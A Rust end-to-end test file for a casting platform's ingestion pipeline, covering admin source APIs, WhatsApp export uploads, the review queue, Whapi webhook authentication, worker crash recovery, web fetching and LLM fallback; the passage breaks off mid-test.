//! The Digital Twin end to end over HTTP: sources through the REST API, a chat export through
//! the upload form, the workers turning posts into candidates, the validation queue's
//! decisions, the Whapi webhook, and a worker killed in the middle of a batch.

use crate::common::{world::*, *};
use reqwest::StatusCode;
use serde_json::{Value, json};
use std::time::Duration;

const ANDROID_AR: &str = include_str!("../../../src/ingest/whatsapp/fixtures/android-ar.txt");
const SOURCES: &str = "/api/v1/admin/digital-twin/sources";
const WEBHOOK_SECRET: &str = "whapi-test-secret-0123456789abcdef";

async fn api(b: &mut Browser, method: &str, path: &str, body: Option<Value>) -> (StatusCode, Value) {
    if b.csrf.is_empty() {
        b.get("/ar/").await;
    }
    let mut req = match method {
        "GET" => b.client.get(b.url(path)),
        "POST" => b.client.post(b.url(path)),
        "PUT" => b.client.put(b.url(path)),
        "DELETE" => b.client.delete(b.url(path)),
        other => panic!("method {other}"),
    }
    .header("accept", "application/json")
    .header("accept-language", "en")
    .header("x-csrf-token", b.csrf.clone());
    if let Some(body) = body {
        req = req.json(&body);
    }
    let res = req.send().await.unwrap();
    let status = res.status();
    let text = res.text().await.unwrap();
    (status, serde_json::from_str(&text).unwrap_or(Value::String(text)))
}

async fn whatsapp_source(b: &mut Browser, group: &str) -> String {
    let (status, body) = api(b, "POST", SOURCES, Some(json!({ "type": "WHATSAPP", "name": "كاستنج جدة", "group_id": group }))).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    body["source"]["id"].as_str().unwrap().to_string()
}

async fn upload(b: &mut Browser, source: &str, file: &str) -> reqwest::Response {
    if b.csrf.is_empty() {
        b.get("/ar/").await;
    }
    let form = reqwest::multipart::Form::new()
        .text("csrf_token", b.csrf.clone())
        .part("file", reqwest::multipart::Part::bytes(file.as_bytes().to_vec()).file_name("chat.txt").mime_str("text/plain").unwrap());
    b.client
        .post(b.url(&format!("{SOURCES}/{source}/import")))
        .header("accept", "text/html")
        .header("referer", b.url("/ar/admin/twin/sources"))
        .multipart(form)
        .send()
        .await
        .unwrap()
}

/// Waits until the workers have processed every queued item.
async fn settled(app: &TestApp) {
    for _ in 0..300 {
        let queued: i64 =
            sqlx::query_scalar("SELECT count(*) FROM ingestion_items WHERE status = 'queued'").fetch_one(&app.db).await.unwrap();
        if queued == 0 {
            return;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("items were still queued after 30 s");
}

async fn pending(app: &TestApp) -> Vec<String> {
    sqlx::query_scalar::<_, uuid::Uuid>("SELECT id FROM ingestion_candidates WHERE status = 'pending' ORDER BY created_at, id")
        .fetch_all(&app.db)
        .await
        .unwrap()
        .into_iter()
        .map(|u| u.to_string())
        .collect()
}

#[tokio::test]
async fn sources_through_the_api() {
    let app = TestApp::spawn().await;
    let mut admin = admin(&app, "ops@takeone.sa").await;

    let (status, body) =
        api(&mut admin, "POST", SOURCES, Some(json!({ "type": "WEB", "name": "Saudi casting board", "url": "ftp://nope" }))).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(body["error"]["fields"]["url"].as_str().unwrap().contains("https://"), "{body}");
    let (status, body) = api(&mut admin, "POST", SOURCES, Some(json!({ "type": "FAX", "name": "x", "url": "https://a.sa" }))).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(body["error"]["fields"]["type"].is_string(), "{body}");
    let (status, body) = api(
        &mut admin,
        "POST",
        SOURCES,
        Some(json!({ "type": "WEB", "name": "Board", "url": "https://casting.example.sa/calls", "schedule": "bad" })),
    )
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(body["error"]["fields"]["schedule"].is_string(), "{body}");
    let (status, body) =
        api(&mut admin, "POST", SOURCES, Some(json!({ "type": "WEB", "name": "Board", "url": "https://casting.example.sa/calls" }))).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let id = body["source"]["id"].as_str().unwrap().to_string();
    assert_eq!(body["source"]["type"], "WEB");
    assert_eq!(body["source"]["schedule"], "0 0 */4 * * *", "web pages default to every four hours");
    assert_eq!(body["source"]["counts"]["fetched"], 0);
    let (status, _) =
        api(&mut admin, "POST", SOURCES, Some(json!({ "type": "WEB", "name": "Again", "url": "https://casting.example.sa/calls" }))).await;
    assert_eq!(status, StatusCode::CONFLICT, "one source per address");

    let (status, body) = api(&mut admin, "PUT", &format!("{SOURCES}/{id}"), Some(json!({ "type": "WEB", "name": "Board (paused)", "url": "https://casting.example.sa/calls", "is_active": false, "schedule": "0 30 * * * *" }))).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!((body["source"]["is_active"].as_bool(), body["source"]["schedule"].as_str()), (Some(false), Some("0 30 * * * *")));
    let (status, _) = api(&mut admin, "POST", &format!("{SOURCES}/{id}/run"), None).await;
    assert_eq!(status, StatusCode::CONFLICT, "a paused source does not run");
    api(
        &mut admin,
        "PUT",
        &format!("{SOURCES}/{id}"),
        Some(json!({ "type": "WEB", "name": "Board", "url": "https://casting.example.sa/calls" })),
    )
    .await;
    let (status, _) = api(&mut admin, "POST", &format!("{SOURCES}/{id}/run"), None).await;
    assert_eq!(status, StatusCode::ACCEPTED);
    let queued: i64 =
        sqlx::query_scalar("SELECT count(*) FROM apalis.jobs WHERE job_type = 'takeone.ingest.source'").fetch_one(&app.db).await.unwrap();
    assert_eq!(queued, 1, "run now queues one fetch");
    let (status, body) = api(&mut admin, "GET", SOURCES, None).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body["sources"].as_array().unwrap().len(), 1);
    let audited: i64 = sqlx::query_scalar("SELECT count(*) FROM audit_events WHERE event_type LIKE 'IngestionSource%' AND target_id = $1")
        .bind(&id)
        .fetch_one(&app.db)
        .await
        .unwrap();
    assert!(audited >= 3, "create, updates and run are audited");

    let mut talent = signed_up(&app, "talent", "سارة", "sara@talent.sa", "").await;
    assert_eq!(api(&mut talent, "GET", SOURCES, None).await.0, StatusCode::FORBIDDEN);
    assert_eq!(
        api(&mut talent, "POST", SOURCES, Some(json!({ "type": "WEB", "name": "Mine", "url": "https://x.sa" }))).await.0,
        StatusCode::FORBIDDEN
    );
    let mut anonymous = app.browser();
    assert_eq!(api(&mut anonymous, "GET", SOURCES, None).await.0, StatusCode::UNAUTHORIZED);

    let (status, _) = api(&mut admin, "DELETE", &format!("{SOURCES}/{id}"), None).await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    assert_eq!(api(&mut admin, "GET", &format!("{SOURCES}/{id}"), None).await.0, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn a_chat_export_becomes_a_queue_and_decisions_publish() {
    let app = TestApp::spawn().await;
    let mut admin = admin(&app, "ops@takeone.sa").await;
    let source = whatsapp_source(&mut admin, "120363000000000001@g.us").await;

    let res = upload(&mut admin, &source, ANDROID_AR).await;
    assert_eq!(res.status(), StatusCode::SEE_OTHER, "the form goes back to the sources page");
    let back = location(&res);
    assert!(back.contains("/ar/admin/twin/sources?imported=47&new="), "{back}");
    settled(&app).await;
    let system_items: i64 =
        sqlx::query_scalar("SELECT count(*) FROM ingestion_items WHERE text LIKE '%مشفرة%'").fetch_one(&app.db).await.unwrap();
    assert_eq!(system_items, 0, "system lines are not posts");
    let queue = pending(&app).await;
    assert!((8..=12).contains(&queue.len()), "about the ten casting calls of the file reach the queue, got {}", queue.len());

    // The same file again adds nothing.
    let res = upload(&mut admin, &source, ANDROID_AR).await;
    assert!(location(&res).contains("&new=0&"), "{}", location(&res));
    // A file that is no export says so.
    let res = upload(&mut admin, &source, "hello\nthis is not a chat").await;
    assert!(location(&res).contains("import_error=422"), "{}", location(&res));

    let (status, page) = admin.get("/ar/admin/twin/queue").await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(texts(&page, "tr[data-candidate-row]").len(), queue.len());
    let (status, detail) = admin.get(&format!("/ar/admin/twin/queue/{}", queue[0])).await;
    assert_eq!(status, StatusCode::OK);
    assert!(!texts(&detail, "[data-testid=source-text] mark").is_empty(), "the fields are marked in the source text");

    // Approve with the admin's corrections; a missing deadline is an error at its field.
    let first = &queue[0];
    let mut form: Vec<(String, String)> = call_form("", "ممثلون لمسلسل درامي في جدة", "publish")
        .into_iter()
        .filter(|(k, _)| !k.starts_with("form[questions]") && k != "call_id")
        .collect();
    form.push(("id".into(), first.clone()));
    form.push(("next".into(), String::new()));
    form.push(("form[contact]".into(), "واتساب 0545550191".into()));
    for (k, v) in form.iter_mut() {
        if k == "form[description]" {
            *v = "مطلوب ممثلون لمسلسل درامي في جدة، للتواصل 054 555 0191 قبل الموعد".into();
        }
    }
    let no_deadline: Vec<(String, String)> =
        form.iter().map(|(k, v)| if k == "form[deadline]" { (k.clone(), String::new()) } else { (k.clone(), v.clone()) }).collect();
    let res = admin.post_owned("/api/fn/approve_candidate", &no_deadline).await;
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY, "the page comes back with the error");
    let body = plain(&res.text().await.unwrap());
    assert!(body.contains("ممثلون لمسلسل درامي في جدة"), "what was typed is kept");
    assert_eq!(texts(&body, "#deadline-error").len(), 1, "the error sits at the deadline");
    let res = admin.post_owned("/api/fn/approve_candidate", &form).await;
    assert_eq!(res.status(), StatusCode::FOUND);
    let call: uuid::Uuid = sqlx::query_scalar("SELECT casting_call_id FROM ingestion_candidates WHERE id = $1::uuid")
        .bind(first)
        .fetch_one(&app.db)
        .await
        .unwrap();
    let (aggregated, status, contact, description): (bool, String, Option<String>, String) =
        sqlx::query_as("SELECT is_aggregated, status, contact_info, description FROM casting_calls WHERE id = $1")
            .bind(call)
            .fetch_one(&app.db)
            .await
            .unwrap();
    assert!(aggregated && status == "active");
    assert_eq!(contact.as_deref(), Some("واتساب •••"), "a personal number is hidden unless the admin ticks it");
    assert!(!description.contains("555") && description.contains("للتواصل •••"), "nor is it left in the text: {description}");
    for lang in ["ar", "en"] {
        let (_, list) = admin.get(&format!("/{lang}/casting-calls")).await;
        assert!(list.contains("ممثلون لمسلسل درامي في جدة"), "the approved call is listed in /{lang}/");
        let (status, page) = app.browser().get(&format!("/{lang}/casting-calls/{call}")).await;
        assert_eq!(status, StatusCode::OK);
        assert_eq!(texts(&page, ".badge-aggregated").len(), 1, "marked as gathered in /{lang}/");
    }
    let (_, sitemap) = app.browser().get("/sitemap.xml").await;
    assert!(sitemap.contains(&call.to_string()), "and it is in the sitemap");
    let res = admin.post_owned("/api/fn/approve_candidate", &form).await;
    assert_eq!(res.status(), StatusCode::CONFLICT, "a second decision is refused");
    assert!(plain(&res.text().await.unwrap()).contains("مسبقًا"), "and says it was decided already");

    // Reject needs a reason; merge needs a call that exists.
    let second = &queue[1];
    let res = admin.post_form("/api/fn/reject_candidate", &[("lang_code", "ar"), ("id", second), ("next", ""), ("form[reason]", "")]).await;
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(texts(&res.text().await.unwrap(), "#reason-error").len(), 1);
    let res = admin
        .post_form(
            "/api/fn/reject_candidate",
            &[("lang_code", "ar"), ("id", second), ("next", ""), ("form[reason]", "ورشة تدريبية وليست كاستنج")],
        )
        .await;
    assert_eq!(res.status(), StatusCode::FOUND);
    let third = &queue[2];
    let res = admin
        .post_form(
            "/api/fn/merge_candidate",
            &[("lang_code", "ar"), ("id", third), ("next", ""), ("form[into]", &uuid::Uuid::new_v4().to_string())],
        )
        .await;
    assert_eq!(res.status(), StatusCode::CONFLICT, "an unknown call is refused");
    let res =
        admin.post_form("/api/fn/merge_candidate", &[("lang_code", "ar"), ("id", third), ("next", ""), ("form[into]", "not a call")]).await;
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(texts(&res.text().await.unwrap(), "#into-error").len(), 1, "at its field");
    let into = format!("https://takeone.sa/ar/casting-calls/{call}");
    let res = admin.post_form("/api/fn/merge_candidate", &[("lang_code", "ar"), ("id", third), ("next", ""), ("form[into]", &into)]).await;
    assert_eq!(res.status(), StatusCode::FOUND);
    let decisions: Vec<String> =
        sqlx::query_scalar("SELECT event_type FROM audit_events WHERE event_type LIKE 'Candidate%' ORDER BY created_at")
            .fetch_all(&app.db)
            .await
            .unwrap();
    assert_eq!(decisions, ["CandidateApproved", "CandidateRejected", "CandidateMerged"]);

    // Bulk: rejecting needs a reason too, then goes through for every selected one.
    let rest = pending(&app).await;
    let mut fields: Vec<(String, String)> =
        vec![("lang_code".into(), "ar".into()), ("form[decision]".into(), "reject".into()), ("form[reason]".into(), "مكرر".into())];
    for (i, id) in rest.iter().enumerate() {
        fields.push((format!("form[ids][{i}]"), id.clone()));
    }
    let res = admin.post_owned("/api/fn/bulk_decide", &fields).await;
    assert_eq!(res.status(), StatusCode::FOUND);
    assert!(location(&res).contains(&format!("done={}&failed=0", rest.len())), "{}", location(&res));
    assert!(pending(&app).await.is_empty());
    let (_, body) = api(&mut admin, "GET", &format!("{SOURCES}/{source}"), None).await;
    assert_eq!(body["source"]["counts"]["approved"], 2, "approved and merged count as approved: {body}");
    assert!(body["source"]["counts"]["fetched"].as_i64().unwrap() > 30);
}

fn whapi_body(id: &str, group: &str, text: &str) -> Value {
    json!({
        "messages": [{ "id": id, "from_me": false, "type": "text", "chat_id": group, "timestamp": 1764590400,
                       "from": "966545550191", "from_name": "هيفاء", "text": { "body": text } }],
        "event": { "type": "messages", "event": "post" },
        "channel_id": "TEST-CHANNEL"
    })
}

const POST: &str = "🎬 مطلوب لمسلسل درامي في جدة\nالأدوار المطلوبة:\n▪️ شاب ٢٢-٢٨ لهجة حجازية\n▪️ فتاة ١٨-٢٥\nالتصوير في جدة التاريخية، الأجر ٨٠٠ ريال لليوم\nآخر موعد للتقديم ٢٠/٤/٢٠٢٦\nللتقديم واتساب 0545550191";

#[tokio::test]
async fn the_whapi_webhook_is_authenticated_idempotent_and_folds_reposts() {
    let app = TestApp::spawn_configured(&[("TAKEONE_WHAPI_WEBHOOK_SECRET", WEBHOOK_SECRET)]).await;
    let mut admin = admin(&app, "ops@takeone.sa").await;
    let group = "120363000000000002@g.us";
    whatsapp_source(&mut admin, group).await;
    let client = reqwest::Client::new();
    let send = |body: Value, auth: Option<&str>| {
        let mut req = client.post(app.url("/webhooks/whapi")).json(&body);
        if let Some(a) = auth {
            req = req.header("authorization", format!("Bearer {a}"));
        }
        req.send()
    };
    assert_eq!(send(whapi_body("m1", group, POST), None).await.unwrap().status(), StatusCode::UNAUTHORIZED);
    assert_eq!(
        send(whapi_body("m1", group, POST), Some("wrong-secret-wrong-secret-wrong")).await.unwrap().status(),
        StatusCode::UNAUTHORIZED
    );
    let res = client
        .post(app.url("/webhooks/whapi"))
        .header("authorization", format!("Bearer {WEBHOOK_SECRET}"))
        .body("{\"no\": \"shape\"")
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::BAD_REQUEST, "a body that is not Whapi's says so");

    let res = send(whapi_body("m1", group, POST), Some(WEBHOOK_SECRET)).await.unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(res.json::<Value>().await.unwrap()["added"], 1);
    let again = send(whapi_body("m1", group, POST), Some(WEBHOOK_SECRET)).await.unwrap();
    assert_eq!(again.json::<Value>().await.unwrap()["added"], 0, "a redelivery adds nothing");
    let other_group = send(whapi_body("m9", "120363999999999999@g.us", POST), Some(WEBHOOK_SECRET)).await.unwrap();
    assert_eq!(other_group.json::<Value>().await.unwrap()["ignored"], 1, "groups that are no source are ignored");
    // The token may also come in the URL (Whapi's webhook settings take a plain URL).
    let repost = format!("منقول\n{}", POST.replace("🎬 ", ""));
    let res = client
        .post(app.url(&format!("/webhooks/whapi?token={WEBHOOK_SECRET}")))
        .json(&whapi_body("m2", group, &repost))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    settled(&app).await;
    let near = POST.replace("0545550191", "0545550199");
    send(whapi_body("m3", group, &near), Some(WEBHOOK_SECRET)).await.unwrap();
    settled(&app).await;

    let statuses: Vec<(String, String)> =
        sqlx::query_as("SELECT external_id, status FROM ingestion_items ORDER BY external_id").fetch_all(&app.db).await.unwrap();
    assert_eq!(
        statuses,
        [("whapi:m1".into(), "candidate".into()), ("whapi:m2".into(), "duplicate".into()), ("whapi:m3".into(), "candidate".into())]
    );
    let (reposts, similar): (i32, Option<uuid::Uuid>) = sqlx::query_as(
        "SELECT (SELECT repost_count FROM ingestion_candidates c JOIN ingestion_items i ON i.id = c.item_id WHERE i.external_id = 'whapi:m1'),
                (SELECT similar_to FROM ingestion_candidates c JOIN ingestion_items i ON i.id = c.item_id WHERE i.external_id = 'whapi:m3')",
    )
    .fetch_one(&app.db)
    .await
    .unwrap();
    assert_eq!(reposts, 1, "the exact repost is folded into the first");
    assert!(similar.is_some(), "the post with a changed phone is suggested as a merge, not folded");
}

#[tokio::test]
async fn a_worker_killed_in_the_middle_of_a_batch_loses_nothing_and_doubles_nothing() {
    let app = TestApp::spawn_configured(&[("TAKEONE_WORKERS", "false")]).await;
    let source = uuid::Uuid::new_v4();
    sqlx::query("INSERT INTO ingestion_sources (id, kind, name, group_id) VALUES ($1, 'whatsapp', 'Batch', '120363000000000003@g.us')")
        .bind(source)
        .execute(&app.db)
        .await
        .unwrap();
    let cities = ["الرياض", "جدة", "الدمام", "أبها", "الطائف", "تبوك", "العلا", "حائل"];
    let items: Vec<takeone::ingest::items::NewItem> = (0..200)
        .map(|i| takeone::ingest::items::NewItem {
            external_id: format!("batch:{i}"),
            sender: None,
            posted_at: None,
            text: format!(
                "مطلوب ممثلين لإعلان تجاري رقم {i} في {}\nشاب {}-{} وفتاة {}-{}\nالأجر {} ريال\nللتواصل واتساب 05455{:05}",
                cities[i % cities.len()],
                18 + i % 7,
                30 + i % 9,
                20 + i % 5,
                35 + i % 4,
                500 + 50 * i,
                i * 37
            ),
            source_url: None,
        })
        .collect();
    let added = takeone::ingest::items::Items::new(app.db.clone()).add(source, &items).await.unwrap();
    assert_eq!(added.new, 200);

    let url = format!("{}/{}", base_url(), app.db_name);
    let config = |url: String| {
        server::config::Config::from_lookup(move |k| match k {
            "DATABASE_URL" => Some(url.clone()),
            "TAKEONE_QUEUE_HEARTBEAT_SECONDS" => Some("1".into()),
            "TAKEONE_MAIL_DIR" => Some(std::env::temp_dir().join("takeone-kill-mail").display().to_string()),
            _ => None,
        })
        .unwrap()
    };
    let candidates =
        || async { sqlx::query_scalar::<_, i64>("SELECT count(*) FROM ingestion_candidates").fetch_one(&app.db).await.unwrap() };

    // First worker: killed (its runtime dropped, nothing finishes) once a few are done.
    let (kill_tx, kill_rx) = tokio::sync::oneshot::channel::<()>();
    let first = {
        let (config, url) = (config(url.clone()), url.clone());
        std::thread::spawn(move || {
            let rt = server::runtime();
            rt.block_on(async move {
                let db = takeone::db::connect(&url, 10).await.unwrap();
                tokio::select! {
                    _ = server::work(&config, db, std::future::pending::<()>()) => {},
                    _ = kill_rx => {},
                }
            });
            rt.shutdown_background();
        })
    };
    // Up to 30 s: the whole suite runs beside it (ffmpeg and clamd included) on two cores.
    for _ in 0..1500 {
        if candidates().await >= 5 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let before_kill = candidates().await;
    assert!(before_kill >= 5, "the first worker got going");
    kill_tx.send(()).unwrap();
    first.join().unwrap();
    assert!(candidates().await < 200, "killed before the batch was done");

    // A second worker (another node) takes over, including what the dead one held.
    let (stop_tx, stop_rx) = tokio::sync::oneshot::channel::<()>();
    let second = {
        let (config, url) = (config(url.clone()), url.clone());
        std::thread::spawn(move || {
            server::runtime().block_on(async move {
                let db = takeone::db::connect(&url, 10).await.unwrap();
                server::work(&config, db, async move {
                    let _ = stop_rx.await;
                })
                .await
                .unwrap();
            })
        })
    };
    for _ in 0..600 {
        let queued: i64 =
            sqlx::query_scalar("SELECT count(*) FROM ingestion_items WHERE status = 'queued'").fetch_one(&app.db).await.unwrap();
        if queued == 0 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let _ = stop_tx.send(());
    second.join().unwrap();
    let by_status: Vec<(String, i64)> =
        sqlx::query_as("SELECT status, count(*) FROM ingestion_items GROUP BY status ORDER BY status").fetch_all(&app.db).await.unwrap();
    assert_eq!(by_status, [("candidate".to_string(), 200)], "every post processed once: {by_status:?}");
    assert_eq!(candidates().await, 200, "and not one candidate twice");
}

/// A local site: `/calls` lists two casting calls (with an ETag), `/robots.txt` allows us.
async fn casting_site() -> (std::net::SocketAddr, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    use axum::{http::HeaderMap, response::IntoResponse, routing::get};
    let not_modified = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counter = not_modified.clone();
    let page = "<html><head><title>Casting board</title></head><body><nav>Home | About</nav><main>
        <h2>Casting call: female model for a perfume commercial in Riyadh</h2><p>Age 20-30. Fee 1500 SAR. Send photos to casting@example.com by 10 May 2026.</p>
        <hr><h2>Casting call: extras for a feature film in Jeddah</h2><p>Men and women 18-60, 300 SAR per day. WhatsApp +966 55 555 0142 before 20 May 2026.</p>
        </main><footer>© Board</footer></body></html>";
    let app = axum::Router::new().route("/robots.txt", get(|| async { "User-agent: *\nAllow: /\n" })).route(
        "/calls",
        get(move |headers: HeaderMap| {
            let counter = counter.clone();
            async move {
                if headers.get("if-none-match").and_then(|v| v.to_str().ok()) == Some("\"v1\"") {
                    counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                    return (axum::http::StatusCode::NOT_MODIFIED, [("etag", "\"v1\"")], String::new()).into_response();
                }
                ([("etag", "\"v1\""), ("content-type", "text/html; charset=utf-8")], page.to_string()).into_response()
            }
        }),
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    (addr, not_modified)
}

async fn fetched(app: &TestApp, source: &str) -> (i64, Option<String>) {
    for _ in 0..200 {
        let row: (i64, Option<String>, Option<time::OffsetDateTime>) = sqlx::query_as(
            "SELECT (SELECT count(*) FROM ingestion_items WHERE source_id = s.id), last_error, last_processed_at FROM ingestion_sources s WHERE id = $1::uuid",
        )
        .bind(source)
        .fetch_one(&app.db)
        .await
        .unwrap();
        if row.1.is_some() || row.2.is_some() {
            return (row.0, row.1);
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("source {source} was not fetched");
}

#[tokio::test]
async fn web_sources_are_fetched_split_and_cost_nothing_when_unchanged_and_a_dead_one_stops_no_other() {
    // The site stands in on loopback, which the fetcher reaches only when told to.
    let app = TestApp::spawn_configured(&[("TAKEONE_FETCH_ALLOW_PRIVATE", "127.0.0.1")]).await;
    let mut admin = admin(&app, "ops@takeone.sa").await;
    let (site, not_modified) = casting_site().await;
    let (_, good) =
        api(&mut admin, "POST", SOURCES, Some(json!({ "type": "WEB", "name": "Board", "url": format!("http://{site}/calls") }))).await;
    let good = good["source"]["id"].as_str().unwrap().to_string();
    let dead_port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let (_, dead) = api(
        &mut admin,
        "POST",
        SOURCES,
        Some(json!({ "type": "WEB", "name": "Gone", "url": format!("http://127.0.0.1:{dead_port}/calls") })),
    )
    .await;
    let dead = dead["source"]["id"].as_str().unwrap().to_string();
    for id in [&dead, &good] {
        assert_eq!(api(&mut admin, "POST", &format!("{SOURCES}/{id}/run"), None).await.0, StatusCode::ACCEPTED);
    }
    let (items, error) = fetched(&app, &good).await;
    assert_eq!((items, error), (2, None), "the page's two calls are two posts");
    let (items, error) = fetched(&app, &dead).await;
    assert_eq!(items, 0);
    assert!(error.unwrap().contains(&dead_port.to_string()), "the dead source shows its error");
    settled(&app).await;
    let urls: Vec<Option<String>> =
        sqlx::query_scalar("SELECT i.source_url FROM ingestion_candidates c JOIN ingestion_items i ON i.id = c.item_id")
            .fetch_all(&app.db)
            .await
            .unwrap();
    assert_eq!(urls.len(), 2, "both are casting calls");
    assert!(urls.iter().all(|u| u.as_deref() == Some(&format!("http://{site}/calls"))), "each links to its page");

    // The second fetch sends the ETag and adds nothing.
    sqlx::query("UPDATE ingestion_sources SET last_processed_at = NULL WHERE id = $1::uuid").bind(&good).execute(&app.db).await.unwrap();
    api(&mut admin, "POST", &format!("{SOURCES}/{good}/run"), None).await;
    let (items, _) = fetched(&app, &good).await;
    assert_eq!(items, 2);
    assert_eq!(not_modified.load(std::sync::atomic::Ordering::SeqCst), 1, "the unchanged page answered 304");
}

/// An OpenAI-compatible endpoint that answers garbage: the built-in extractor answers instead,
/// and the item says so.
#[tokio::test]
async fn a_garbage_llm_falls_back_to_the_built_in_extractor_and_says_so() {
    use axum::routing::post;
    let calls = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counter = calls.clone();
    let llm = axum::Router::new().route(
        "/v1/chat/completions",
        post(move |headers: axum::http::HeaderMap, body: axum::Json<Value>| {
            let counter = counter.clone();
            async move {
                assert_eq!(headers.get("authorization").and_then(|v| v.to_str().ok()), Some("Bearer llm-key"));
                assert_eq!(body["response_format"]["type"], "json_schema");
                counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                axum::Json(json!({ "choices": [{ "index": 0, "finish_reason": "stop", "message": { "role": "assistant", "content": "Sure! Here is the casting call: {not json" } }] }))
            }
        }),
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, llm).await.unwrap() });
    let app = TestApp::spawn_with_vars(vec![
        ("TAKEONE_OPENAI_URL", format!("http://{addr}/v1")),
        ("TAKEONE_OPENAI_KEY", "llm-key".into()),
        ("TAKEONE_WHAPI_WEBHOOK_SECRET", WEBHOOK_SECRET.into()),
    ])
    .await;
    let mut admin = admin(&app, "ops@takeone.sa").await;
    let group = "120363000000000004@g.us";
    whatsapp_source(&mut admin, group).await;
    let res = reqwest::Client::new()
        .post(app.url("/webhooks/whapi"))
        .header("authorization", format!("Bearer {WEBHOOK_SECRET}"))
        .json(&whapi_body("llm1", group, POST))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    settled(&app).await;
    let (status, extractor, note): (String, Option<String>, Option<String>) =
        sqlx::query_as("SELECT status, extractor, extractor_note FROM ingestion_items").fetch_one(&app.db).await.unwrap();
    assert_eq!(calls.load(std::sync::atomic::Ordering::SeqCst), 1, "the endpoint was asked");
    assert_eq!((status.as_str(), extractor.as_deref()), ("candidate", Some("rules")));
    assert!(note.unwrap().contains("built-in extractor used"));
    let candidate = pending(&app).await.remove(0);
    let (_, page) = admin.get(&format!("/ar/admin/twin/queue/{candidate}")).await;
    assert!(page.contains("built-in extractor used"), "the admin sees why");
}

#[tokio::test]
async fn exports_that_are_too_big_or_sent_to_a_web_source_are_refused_clearly() {
    let app = TestApp::spawn().await;
    let mut admin = admin(&app, "ops@takeone.sa").await;
    let (_, web) =
        api(&mut admin, "POST", SOURCES, Some(json!({ "type": "WEB", "name": "Board", "url": "https://casting.example.sa/" }))).await;
    let web = web["source"]["id"].as_str().unwrap().to_string();
    let send = |b: &Browser, path: String, body: Vec<u8>| {
        b.client.post(b.url(&path)).header("accept", "application/json").header("x-csrf-token", b.csrf.clone()).body(body).send()
    };
    let res = send(&admin, format!("{SOURCES}/{web}/import"), ANDROID_AR.as_bytes().to_vec()).await.unwrap();
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY, "exports go to WhatsApp sources");
    let group = whatsapp_source(&mut admin, "120363000000000005@g.us").await;
    let huge = vec![b'a'; takeone::ingest::whatsapp::MAX_EXPORT_BYTES + 1];
    let res = send(&admin, format!("{SOURCES}/{group}/import"), huge).await.unwrap();
    assert_eq!(res.status(), StatusCode::PAYLOAD_TOO_LARGE);
    let body: Value = res.json().await.unwrap();
    assert!(body["error"]["message"].as_str().unwrap().contains("20 MB"), "{body}");
    let res = send(&admin, format!("{SOURCES}/{group}/import"), vec![0xff, 0xfe, 0x00, 0x41]).await.unwrap();
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert!(res.text().await.unwrap().contains("UTF-8"), "a file in another encoding says so");
    let res = send(&admin, format!("{SOURCES}/{group}/import"), ANDROID_AR.as_bytes().to_vec()).await.unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    let body: Value = res.json().await.unwrap();
    assert_eq!(body["import"]["messages"], 47);
}

/// Polling: with a Whapi token the WhatsApp source's fetch lists the group's messages (a
/// stand-in checks the token and path); without one the source shows why it cannot poll.
#[tokio::test]
async fn whatsapp_sources_poll_whapi_and_say_so_when_they_cannot() {
    use axum::{extract::Path, routing::get};
    let whapi = axum::Router::new().route(
        "/messages/list/{chat}",
        get(|Path(chat): Path<String>, headers: axum::http::HeaderMap| async move {
            assert_eq!(headers.get("authorization").and_then(|v| v.to_str().ok()), Some("Bearer whapi-token"));
            let m = whapi_body("p1", &chat, POST)["messages"].clone();
            axum::Json(json!({ "messages": m, "count": 1, "total": 1, "offset": 0 }))
        }),
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, whapi).await.unwrap() });

    let app =
        TestApp::spawn_with_vars(vec![("TAKEONE_WHAPI_TOKEN", "whapi-token".into()), ("TAKEONE_WHAPI_URL", format!("http://{addr}"))])
            .await;
    let mut admin = admin(&app, "ops@takeone.sa").await;
    let source = whatsapp_source(&mut admin, "120363000000000006@g.us").await;
    assert_eq!(api(&mut admin, "POST", &format!("{SOURCES}/{source}/run"), None).await.0, StatusCode::ACCEPTED);
    assert_eq!(fetched(&app, &source).await, (1, None));
    settled(&app).await;
    assert_eq!(pending(&app).await.len(), 1);

    let offline = TestApp::spawn().await;
